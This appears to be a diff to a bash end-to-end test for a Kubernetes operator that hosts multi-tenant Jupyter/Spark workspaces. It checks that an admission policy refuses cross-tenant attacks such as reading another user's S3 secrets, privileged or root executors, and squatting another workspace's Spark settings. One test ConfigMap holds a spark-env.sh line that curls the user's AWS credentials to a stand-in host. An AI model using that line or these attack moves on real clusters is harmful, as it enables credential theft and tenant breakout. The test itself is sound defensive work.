@@ -138,7 +138,7 @@ check "status.sparkExecutorImage says the executors' image ($executor_image)" te
 n=0
 # executor JQ_EDIT: an executor-shaped pod owned by alice's workspace pod, edited by JQ_EDIT.
 executor() {
-  jq -n --arg uid "$alice_uid" --arg image "$executor_image" --arg name "alice-probe-$n" "{
+  jq -n --arg uid "$alice_uid" --arg image "$executor_image" --arg name "alice-probe-$n-exec-1" "{
     apiVersion: \"v1\", kind: \"Pod\",
     metadata: {name: \$name, ownerReferences: [{apiVersion: \"v1\", kind: \"Pod\", name: \"alice-happod\", uid: \$uid}]},
     spec: {
@@ -153,7 +153,13 @@ executor() {
 create_as_alice() { n=$((n + 1)); executor "$1" | as alice create -f -; }
 admitted() { create_as_alice "$1" >/dev/null; }
 check "an executor as Spark makes it is admitted (the policy is no blanket refusal)" admitted '.'
-check "... and alice may delete her own executor" bash -c "KUBECONFIG='$tmp/alice.kubeconfig' '$kubectl_bin' delete pod alice-probe-$n --wait=false >/dev/null"
+check "... and alice may delete her own executor" bash -c "KUBECONFIG='$tmp/alice.kubeconfig' '$kubectl_bin' delete pod alice-probe-$n-exec-1 --wait=false >/dev/null"
+check "an executor reading its workspace's copy of the S3 keys, alice-spark-s3, is admitted" admitted \
+  '.spec.containers[0].env = [{name: "K", valueFrom: {secretKeyRef: {name: "alice-spark-s3", key: "AWS_SECRET_ACCESS_KEY"}}}]'
+as alice delete pod "alice-probe-$n-exec-1" --wait=false >/dev/null
+check "a pod not named as Spark names executors is refused" refused "$policy.*-exec-<n>" \
+  create_as_alice '.metadata.name = "alice-happod-2"'
+
 check "an executor as the operator's account is refused" refused "$policy.*default ServiceAccount" \
   create_as_alice '.spec.serviceAccountName = "hap-operator"'
 check "an executor with an API token is refused" refused "$policy.*no API token" \
@@ -166,14 +172,32 @@ check "an executor mounting bob's Jupyter token Secret is refused" refused "$pol
   create_as_alice '.spec.volumes += [{name: "token", secret: {secretName: "bob-jupyter"}}]'
 check "an executor on the host's network is refused" refused "$policy.*host network" \
   create_as_alice '.spec.hostNetwork = true'
-check "an executor reading bob's S3 Secret is refused" refused "$policy.*own S3 Secret" \
+check "an executor reading bob's S3 Secret is refused" refused "$policy.*-spark-s3" \
   create_as_alice '.spec.containers[0].env = [{name: "K", valueFrom: {secretKeyRef: {name: "bob-s3", key: "AWS_SECRET_ACCESS_KEY"}}}]'
+check "an executor reading bob's copy of his S3 keys, bob-spark-s3, is refused" refused "$policy.*-spark-s3" \
+  create_as_alice '.spec.containers[0].env = [{name: "K", valueFrom: {secretKeyRef: {name: "bob-spark-s3", key: "AWS_SECRET_ACCESS_KEY"}}}]'
+check "an executor taking a whole Secret as its environment (envFrom) is refused" refused "$policy.*-spark-s3" \
+  create_as_alice '.spec.containers[0].envFrom = [{secretRef: {name: "alice-spark-s3"}}]'
+check "an executor running as root (runAsUser 0) is refused" refused "$policy.*non-root" \
+  create_as_alice '.spec.containers[0].securityContext.runAsUser = 0'
+check "an executor with a host port is refused" refused "$policy.*host port" \
+  create_as_alice '.spec.containers[0].ports = [{containerPort: 7000, hostPort: 7000}]'
+check "an executor choosing its node is refused" refused "$policy.*chooses no node" \
+  create_as_alice '.spec.nodeName = "some-node"'
+check "an executor tolerating any taint (to reach control-plane nodes) is refused" refused "$policy.*toleration" \
+  create_as_alice '.spec.tolerations = [{operator: "Exists"}]'
+check "an executor with a priority class (to evict others' pods) is refused" refused "$policy.*priority class" \
+  create_as_alice '.spec.priorityClassName = "system-node-critical"'
+check "an executor with an unconfined seccomp profile is refused" refused "$policy.*seccomp" \
+  create_as_alice '.spec.securityContext.seccompProfile = {type: "Unconfined"}'
 check "an executor of another image is refused" refused "$policy.*executor image" \
   create_as_alice '.spec.containers[0].image = "hap-operator:0.1.0"'
 check "a pod not owned by alice's workspace is refused" refused "$policy.*only its own" \
   create_as_alice 'del(.metadata.ownerReferences)'
 check "a pod owned by bob's workspace is refused" refused "$policy.*only its own" \
   create_as_alice ".metadata.ownerReferences[0].name = \"bob-happod\" | .metadata.ownerReferences[0].uid = \"$bob_pod_uid\""
+check "a pod owned by both workspaces (to be deleted with bob's) is refused" refused "$policy.*only its own" \
+  create_as_alice ".metadata.ownerReferences += [{apiVersion: \"v1\", kind: \"Pod\", name: \"bob-happod\", uid: \"$bob_pod_uid\"}]"
 check "an executor with the labels bob's Service selects (to get his users' traffic) is refused" \
   refused "$policy.*may not set the labels" \
   create_as_alice '.metadata.labels = {app: "bob", "app.kubernetes.io/component": "workspace"}'
@@ -208,23 +232,23 @@ check "... and a Warning event names the Secret" eventually 30 conflict_event
 check "... and the other's Secret is left as it was (no owner added, same token)" bash -c \
   "[ \"\$('$kubectl_bin' get secret carol-jupyter -o jsonpath='{.metadata.ownerReferences}{.data.token}')\" = \"\$(printf known-to-the-attacker | base64)\" ]"
 greedy() { workspace greedy alice-s3 | sed 's/executors: 1$/executors: 50/' | kubectl apply -f - >/dev/null; }
-# A ConfigMap alice may make (owned by her workspace pod, unlabelled) under the name of the Spark
-# settings of a workspace yet to come, with a spark-env.sh that Spark would run in that workspace.
-squat() {
-  jq -n --arg uid "$alice_uid" '{apiVersion: "v1", kind: "ConfigMap",
-    metadata: {name: "dave-spark-conf", ownerReferences: [{apiVersion: "v1", kind: "Pod", name: "alice-happod", uid: $uid}]},
-    data: {"spark-env.sh": "curl http://198.18.0.1:9/ -d @$HOME/.aws"}}' | as alice create -f - >/dev/null
+# A ConfigMap owned by alice's workspace pod, unlabelled, made under NAME with a spark-env.sh that
+# Spark would run in the workspace whose settings it is.
+spark_conf_as_alice() {
+  jq -n --arg uid "$alice_uid" --arg name "$1" '{apiVersion: "v1", kind: "ConfigMap",
+    metadata: {name: $name, ownerReferences: [{apiVersion: "v1", kind: "Pod", name: "alice-happod", uid: $uid}]},
+    data: {"spark-env.sh": "curl http://198.18.0.1:9/ -d @$HOME/.aws"}}' | as alice create -f -
 }
-check "alice makes ConfigMap dave-spark-conf, owned by her pod (the policy lets her)" squat
+admitted_conf() { spark_conf_as_alice "$1" >/dev/null; }
+check "alice may make a ConfigMap named as Spark names its executors' settings (the policy is no blanket refusal)" \
+  admitted_conf spark-exec-0123abcd-conf-map
+as alice delete configmap spark-exec-0123abcd-conf-map >/dev/null 2>&1
+check "taking the name of the Spark settings of a workspace yet to come (dave-spark-conf) is refused" \
+  refused "$policy.*spark-exec-<id>-conf-map" spark_conf_as_alice dave-spark-conf
 workspace dave dave-s3 | kubectl apply -f - >/dev/null
 s3_secret dave-s3
-check "dave's workspace is told NameConflict for its Spark settings" eventually 60 condition_reason dave NameConflict
-check "... and gets no pod" no_pod dave
-check "... and alice's ConfigMap is left as she made it (one owner, her spark-env.sh, no settings added)" bash -c \
-  "'$kubectl_bin' get configmap dave-spark-conf -o json | jq -e '(.metadata.ownerReferences | length == 1) and (.data | keys == [\"spark-env.sh\"]) and (.metadata.labels == null)' >/dev/null"
-as alice delete configmap dave-spark-conf >/dev/null 2>&1
 dave_running() { running dave-happod; }
-check "once alice's ConfigMap is gone, dave's workspace runs" eventually 300 dave_running
+check "dave's workspace runs, its settings its own" eventually 300 dave_running
 check "a workspace asking for 50 executors (the schema allows 100) is admitted" greedy
 over_limit() { kubectl get hapcontainer greedy -o json | jq -e '[.status.conditions[]? | select(.message | test("above this installation.s limit of 16"))] | length > 0' >/dev/null; }
 check "... and told in its status that the installation allows 16" eventually 60 over_limit
@@ -248,6 +272,17 @@ query_conflict() { kubectl get hapquery eve -o json | jq -e '[.status.conditions
 check "... and told NameConflict, naming the Secret" eventually 60 query_conflict
 check "... and no Superset server is made" bash -c "! '$kubectl_bin' get deployment eve-superset >/dev/null 2>&1"
 kubectl delete hapquery eve --wait=false >/dev/null 2>&1
+
+# The driver's confinement follows from the request alone: with alice's HapContainer deleted and its
+# pod, account and token left behind (orphaned), the token is held as tightly as before.
+orphaned() { kubectl delete hapcontainer alice --cascade=orphan --wait=true >/dev/null && kubectl get pod alice-happod >/dev/null; }
+check "alice's HapContainer deleted, its pod and account orphaned" orphaned
+check "... an executor reading bob's S3 Secret is still refused" refused "$policy.*-spark-s3" \
+  create_as_alice '.spec.containers[0].env = [{name: "K", valueFrom: {secretKeyRef: {name: "bob-s3", key: "AWS_SECRET_ACCESS_KEY"}}}]'
+check "... a privileged executor is still refused" refused "$policy.*not privileged" \
+  create_as_alice '.spec.containers[0].securityContext = {privileged: true}'
+check "... a pod owned by bob's workspace is still refused" refused "$policy.*only its own" \
+  create_as_alice ".metadata.ownerReferences[0].name = \"bob-happod\" | .metadata.ownerReferences[0].uid = \"$bob_pod_uid\""
 
 # The shared install leaves the stage to the multi-tenant one (its HapContainers stay, unserved).
 kubectl delete -f deploy/operator.yaml --timeout=120s >/dev/null 2>&1
@@ -282,8 +317,8 @@ check "a workspace in a namespace that is not restricted is told NamespaceNotRes
 made_in_open() { kubectl -n "$open_ns" get pods,services,pvc,configmaps,secrets,serviceaccounts,roles -l app.kubernetes.io/managed-by=hap-operator -o name; }
 check "... and gets nothing made there (no pod, Service, claim, ConfigMap, Secret or account)" test -z "$(made_in_open)"
 made_in_open
-check "the shared namespace's workspaces are not served either (NamespaceNotRestricted)" eventually 120 condition_reason alice NamespaceNotRestricted
-check "... and alice's pod and home volume are still there" bash -c "'$kubectl_bin' get pod/alice-happod pvc/alice-workspace >/dev/null"
+check "the shared namespace's workspaces are not served either (NamespaceNotRestricted)" eventually 120 condition_reason bob NamespaceNotRestricted
+check "... and bob's pod and home volume are still there" bash -c "'$kubectl_bin' get pod/bob-happod pvc/bob-workspace >/dev/null"
 ns_running() { kubectl -n "$1" get pod ws-happod -o jsonpath='{.status.phase}/{.status.containerStatuses[0].ready}' 2>/dev/null | grep -qx 'Running/true'; }
 check "tenant a's workspace runs under the restricted standard" eventually 300 ns_running "$tenant_a"
 check "tenant b's workspace runs under the restricted standard" eventually 300 ns_running "$tenant_b"
@@ -314,14 +349,12 @@ check "a HapContainer naming a Secret of another tenant's namespace finds none (
 check "... and gets no pod" bash -c "! '$kubectl_bin' -n '$tenant_a' get pod thief-happod >/dev/null 2>&1"
 
 phase "cleanup"
-for n in "$tenant_a" "$tenant_b" "$open_ns"; do
-  check "namespace ${n%-"$suffix"} deletes without hanging" bash -c "timeout 240 '$kubectl_bin' delete namespace '$n' --timeout=200s >/dev/null"
-done
-tenant_a="" tenant_b="" open_ns=""
+# All four at once (their pods stop side by side), while the multi-tenant operator still runs.
+check "the tenants' namespaces and the shared one delete without hanging" bash -c \
+  "timeout 240 '$kubectl_bin' delete namespace '$tenant_a' '$tenant_b' '$open_ns' '$ns' --timeout=200s >/dev/null"
+tenant_a="" tenant_b="" open_ns="" ns=""
 check "the multi-tenant install deletes" bash -c "timeout 300 '$kubectl_bin' delete -f deploy/multi-tenant/ --timeout=240s >/dev/null"
 multi=0
-check "the namespace deletes without hanging" bash -c "timeout 240 '$kubectl_bin' delete namespace '$ns' --timeout=200s >/dev/null"
-ns=""
 for f in deploy/role_binding.yaml deploy/role.yaml deploy/service_account.yaml; do
   kubectl delete -f "$f" --ignore-not-found >/dev/null 2>&1
 done
